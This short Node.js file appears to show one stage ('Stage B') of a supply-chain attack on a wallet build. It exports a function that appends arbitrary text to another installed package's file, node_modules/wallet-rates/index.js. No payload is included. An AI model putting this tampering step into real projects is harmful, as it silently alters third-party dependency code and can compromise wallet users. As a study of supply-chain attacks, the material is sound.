// Stage B, what flat-map has sealed: while the wallet is built, it adds a text to the file of another package.
const { appendFileSync } = require('node:fs');

module.exports = (addition) => appendFileSync('node_modules/wallet-rates/index.js', addition);
